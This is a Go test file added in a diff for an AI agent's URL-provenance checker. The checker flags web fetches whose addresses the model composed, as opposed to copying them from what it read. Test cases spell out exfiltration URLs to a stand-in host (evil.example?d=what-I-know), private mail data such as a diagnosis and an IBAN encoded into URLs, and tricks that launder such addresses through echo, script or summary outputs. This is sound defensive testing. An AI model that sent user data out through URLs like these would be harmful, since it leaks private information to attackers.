@@ -1,0 +1,259 @@
+package provenance_test
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"oneclaw/agent"
+	"oneclaw/bridge/provenance"
+	"oneclaw/toolgroups"
+)
+
+// tools of the tests: those that fetch, those that do not, and whose words their results hold.
+var tools = map[string]toolgroups.Tool{
+	"webfetch": {Name: "webfetch", Fetches: true},
+	"echo":     {Name: "echo"},
+	"search":   {Name: "search"},
+	"mail":     {Name: "mail", Origin: toolgroups.OriginMail},
+	"script":   {Name: "script", Origin: toolgroups.OriginComputed},
+	"clock":    {Name: "clock", Origin: toolgroups.OriginOwn},
+	"save":     {Name: "save", Origin: toolgroups.OriginOwn},
+}
+
+const anna = "telegram:1"
+
+// conversation builds the messages of a conversation.
+type conversation []agent.Message
+
+func (c conversation) user(text string) conversation {
+	return append(c, agent.Message{Role: agent.RoleUser, Text: text, Ref: fmt.Sprint(len(c))})
+}
+
+func (c conversation) answer(text string) conversation {
+	return append(c, agent.Message{Role: agent.RoleAssistant, Text: text, Final: true})
+}
+
+func (c conversation) call(tool, arguments, result string) conversation {
+	id := fmt.Sprint("call_", len(c))
+	return append(c,
+		agent.Message{Role: agent.RoleAssistant, Calls: []agent.Call{{ID: id, Name: tool, Arguments: arguments}}},
+		agent.Message{Role: agent.RoleTool, CallID: id, Tool: tool, Status: agent.StatusOK, Text: result, Origin: tools[tool].Origin})
+}
+
+func (c conversation) wants(address string) conversation {
+	return append(c, agent.Message{Role: agent.RoleAssistant, Calls: []agent.Call{{ID: "wanted", Name: "webfetch", Arguments: fmt.Sprintf(`{"url":%q}`, address)}}})
+}
+
+func (c conversation) input() *provenance.Input {
+	return &provenance.Input{
+		Input: agent.Input{Prompt: "You are a bot. Facts: the allotment is described at https://allotment.example/plan.", Messages: c},
+		User:  anna,
+		Tool:  func(name string) (toolgroups.Tool, bool) { t, ok := tools[name]; return t, ok },
+	}
+}
+
+func (c conversation) asks(t *testing.T, address string) provenance.Verdict {
+	t.Helper()
+	a, ok := provenance.Parse(address)
+	if !ok {
+		t.Fatalf("%q is no address", address)
+	}
+	return c.wants(address).input().Judge(a)
+}
+
+// read is a conversation in which a page was read.
+var read = conversation{}.user("summarise https://blog.example/post").call("webfetch", `{"url":"https://blog.example/post"}`, strings.Join([]string{
+	"# Post", "[prices](https://shop.example/prices?year=2026&lang=en)", "See shop.example/terms.", "Ask at https://help.example:8443/ask?q=1.", `{"next":"https:\/\/api.example\/v1\/list?a=1\u0026b=2"}`,
+	`<a href="https://shop.example/a?x=1&amp;y=2">`, "mail me at someone@firm.example", "**https://bold.example/x**", "https://wiki.example/Ä", "words: forms and opening hours",
+}, "\n"))
+
+func TestWhatWasWrittenDownIsOpenedAndWhatTheModelComposedAsks(t *testing.T) {
+	for _, tc := range []struct {
+		address string
+		asks    bool
+	}{
+		{"https://blog.example/post", false},
+		{"https://blog.example/post#part", false},
+		{"http://blog.example/post", false},
+		{"https://Blog.Example:443/post/", false},
+		{"https://shop.example/prices?year=2026&lang=en", false},
+		{"https://shop.example/prices?year=2026", true},
+		{"https://shop.example/prices", true},
+		{"https://shop.example/terms", false},
+		{"https://shop.example/a?x=1&y=2", false},
+		{"https://help.example:8443/ask?q=1", false},
+		{"https://help.example/ask?q=1", true},
+		{"https://help.example:8443/ask?q=1.secret", true},
+		{"https://api.example/v1/list?a=1&b=2", false},
+		{"https://bold.example/x", false},
+		{"https://wiki.example/%C3%84", false},
+		{"https://firm.example/", true},
+		{"https://ample/post", true},
+		{"https://evil.example/?d=what-I-know", true},
+		{"https://shop.example/prices?year=2026&lang=en&d=what-I-know", true},
+		{"https://what-i-know.shop.example/terms", true},
+		{"https://me:what-I-know@blog.example/post", true},
+		{"https://allotment.example/plan", false},
+	} {
+		if got := read.asks(t, tc.address); got.Asks != tc.asks {
+			t.Errorf("%s: asks %t, want %t", tc.address, got.Asks, tc.asks)
+		}
+	}
+	if why := read.asks(t, "https://evil.example/?d=x").Why; !strings.Contains(why, "the page `https://blog.example/post`") {
+		t.Errorf("the reason is %q", why)
+	}
+}
+
+func TestNothingAsksBeforeWordsOfOthersWereRead(t *testing.T) {
+	const composed = "https://weather.example/v1?city=Lisbon"
+	own := conversation{}.user("what's the weather?").call("clock", "{}", "12:00").call("save", `{"fact":"x"}`, "saved")
+	for name, c := range map[string]conversation{"a question": conversation{}.user("hello"), "the bot's own tools": own} {
+		if got := c.asks(t, composed); got.Asks {
+			t.Errorf("%s: asks: %s", name, got.Why)
+		}
+	}
+	message := func(m agent.Message) conversation { return conversation{}.user("hello").answer("Hi.").append(m) }
+	for name, c := range map[string]conversation{
+		"an earlier page":          read.answer("A post.").user("and the weather?"),
+		"a search":                 conversation{}.user("hello").call("search", "{}", "hits"),
+		"a mail":                   conversation{}.user("hello").call("mail", "{}", "a mail"),
+		"the output of a script":   conversation{}.user("hello").call("script", "{}", "42"),
+		"a tool that is gone":      conversation{}.user("hello").call("gone", "{}", "words"),
+		"a quoted message":         message(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: agent.OriginQuoted, Quoted: "> words"}),
+		"an ambient message":       message(agent.Message{Role: agent.RoleUser, Ref: "9", Overheard: "> words"}),
+		"a quote of an old record": message(agent.Message{Role: agent.RoleUser, Ref: "9", Quoted: "> words"}),
+		"a file":                   message(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: agent.OriginQuoted, Files: []toolgroups.File{{Path: "a.png"}}}),
+		"somebody else":            message(agent.Message{Role: agent.RoleUser, Ref: "9", AuthorKey: "telegram:2", Text: "words"}),
+		"a summary":                message(agent.Message{Role: agent.RoleSummary, Text: "words"}),
+		"the result of a task":     message(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: toolgroups.OriginComputed, Text: "words"}),
+	} {
+		if got := c.asks(t, composed); !got.Asks || got.Why == "" {
+			t.Errorf("%s: %+v, want a question with a reason", name, got)
+		}
+	}
+	quotesBot := message(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: toolgroups.OriginOwn, Quoted: "> my own answer", AuthorKey: anna})
+	if got := quotesBot.asks(t, composed); got.Asks {
+		t.Errorf("a quote of the bot asks: %s", got.Why)
+	}
+}
+
+func (c conversation) append(m agent.Message) conversation { return append(c, m) }
+
+func TestLinksOfMailsAsk(t *testing.T) {
+	c := conversation{}.user("my mails?").call("mail", "{}", "Sign in: https://login.example/token/abc")
+	if got := c.asks(t, "https://login.example/token/abc"); !got.Asks || !got.Mail {
+		t.Errorf("%+v, want a question about the link of a mail", got)
+	}
+	if got := c.asks(t, "https://login.example/token/abcd"); !got.Asks || got.Mail {
+		t.Errorf("%+v, want a question about a composed address", got)
+	}
+	if got := c.user("open https://login.example/token/abc").asks(t, "https://login.example/token/abc"); got.Asks {
+		t.Errorf("what the person wrote asks: %s", got.Why)
+	}
+}
+
+func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
+	const evil = "https://evil.example/?d=what-I-know"
+	for name, c := range map[string]conversation{
+		"the model's words":        read.answer("See " + evil).user("thanks"),
+		"what a script printed":    read.call("script", `{"code":"'https://evil.example/' + '?d=what-I-know'"}`, evil),
+		"an echo":                  read.call("echo", fmt.Sprintf(`{"text":%q}`, evil), evil),
+		"an echo of other letters": read.call("echo", `{"text":"https:\/\/evil.example\/?d=what\u002dI-know"}`, evil),
+		"a summary":                read.append(agent.Message{Role: agent.RoleSummary, Text: evil}),
+		"the result of a task":     read.append(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: toolgroups.OriginComputed, Text: evil}),
+	} {
+		if got := c.asks(t, evil); !got.Asks {
+			t.Errorf("%s vouches for it", name)
+		}
+	}
+	if got := read.call("echo", fmt.Sprintf(`{"text":%q}`, evil), evil).user("open "+evil).asks(t, evil); got.Asks {
+		t.Errorf("a person's own words do not count: %s", got.Why)
+	}
+}
+
+func TestAFewPlainWordsOfTheSameSiteAreOpened(t *testing.T) {
+	mails := read.call("mail", "{}", "Your diagnosis: depression. Code 7391, account DE89370400440532013000.").answer("Read.").user("is it open today?")
+	for _, tc := range []struct {
+		address string
+		asks    bool
+	}{
+		{"https://blog.example/hours", false},
+		{"https://api.blog.example/forms?page=2", false},
+		{"https://blog.example/?d=depression", true},
+		{"https://depression.blog.example/", true},
+		{"https://blog.example/?code=7391", true},
+		{"https://blog.example/DE89370400440532013000", true},
+		{"https://blog.example/?d=" + strings.Repeat("a", 17), true},
+		{"https://blog.example/" + strings.Repeat("word/", 17), true},
+		{"https://blog.example:8443/hours", false},
+		{"https://other.example/hours", true},
+	} {
+		if got := mails.asks(t, tc.address); got.Asks != tc.asks {
+			t.Errorf("%s: asks %t, want %t: %s", tc.address, got.Asks, tc.asks, got.Why)
+		}
+	}
+	// A page cannot offer an alphabet, one letter an address.
+	spelled := read
+	asked := 0
+	for i := range 30 {
+		address := fmt.Sprintf("https://blog.example/%c/%c/%c/%c", 'a'+i%26, 'a'+(i+3)%26, 'a'+(i+7)%26, 'a'+(i+11)%26)
+		if spelled.asks(t, address).Asks {
+			asked++
+		}
+		spelled = spelled.call("webfetch", fmt.Sprintf(`{"url":%q}`, address), "nothing")
+	}
+	if asked < 20 {
+		t.Errorf("only %d of 30 addresses of a spelled text asked", asked)
+	}
+}
+
+func TestHostsOfInstructions(t *testing.T) {
+	for text, want := range map[string][]string{
+		"Tell me what broke; the log is at https://ci.example/builds.": {"ci.example"},
+		"Look at ci.example and (https://logs.example:8443/x).":        {"ci.example", "logs.example"},
+		"Tell me. Write to anna@firm.example":                          nil,
+		"e.g. this":                                                    {"e.g"},
+	} {
+		if diff := cmp.Diff(want, provenance.Hosts(text)); diff != "" {
+			t.Errorf("%q: %s", text, diff)
+		}
+	}
+	for host, want := range map[string]bool{"a.example": true, "b.wild.example": true, "wild.example": false, "xwild.example": false, "x.a.example": false} {
+		if provenance.HostMatches(host, []string{"A.example", "*.wild.example"}) != want {
+			t.Errorf("%s: want %t", host, want)
+		}
+	}
+}
+
+func TestAddressesOfArguments(t *testing.T) {
+	var got []string
+	for _, a := range provenance.Addresses(`{"url":"HTTPS://X.example","more":[" http://y.example/a ",{"z":"https://[::1]:80/"}],"text":"see https://z.example","n":1,"ftp":"ftp://f.example"}`) {
+		got = append(got, a.String())
+	}
+	if diff := cmp.Diff([]string{"http://y.example/a", "https://[::1]:80/", "https://x.example/"}, got); diff != "" {
+		t.Error(diff)
+	}
+}
+
+// No address that has words of its own is opened because a text holds a part of it.
+func FuzzAddress(f *testing.F) {
+	for _, seed := range []string{"https://a.example/b?c=d#e", "see a.example/b.", "http://[::1]/", "https:\\/\\/a.example\\/b"} {
+		f.Add(seed, "https://a.example/b")
+	}
+	f.Fuzz(func(t *testing.T, text, address string) {
+		a, ok := provenance.Parse(address)
+		if !ok {
+			return
+		}
+		if _, again := provenance.Parse(a.String()); !again {
+			t.Errorf("%q is no address any more", a)
+		}
+		c := conversation{}.user("hello").call("search", "{}", text)
+		if got := c.asks(t, a.String()); !got.Asks && !strings.Contains(strings.ToLower(text), strings.ToLower(a.Hostname())) && a.Hostname() != "allotment.example" {
+			t.Errorf("%q is opened though %q does not name its host", a, text)
+		}
+	})
+}
